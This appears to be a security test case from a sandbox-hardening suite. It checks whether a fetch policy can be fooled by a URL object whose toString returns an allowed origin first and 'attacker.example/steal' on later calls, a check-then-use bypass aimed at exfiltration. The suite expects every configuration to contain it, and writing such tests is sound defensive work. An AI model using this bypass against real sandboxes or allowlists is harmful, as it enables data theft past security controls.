/*---
id: ex-fetch-03-toctou-url
description: "Passes fetch an object whose toString returns a harmless URL the first time and the attacker's URL afterwards, so a policy that converts the URL twice checks one origin and fetches another."
kind: malicious
category: exfiltration
technique: EX-fetch
variant: combined
references:
  - "isolated-vm FAQ"
  - "Deno permissions"
  - "workerd capability bindings"
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
flags: [async]
---*/
if (typeof fetch !== 'function') return 'held';
let calls = 0;
const url = { toString() { calls++; return calls === 1 ? 'https://allowed.example/' : 'https://attacker.example/steal'; } };
const outcome = await fetch(url).then(() => 'ESCAPED: fetch resolved', () => 'held');
return outcome;
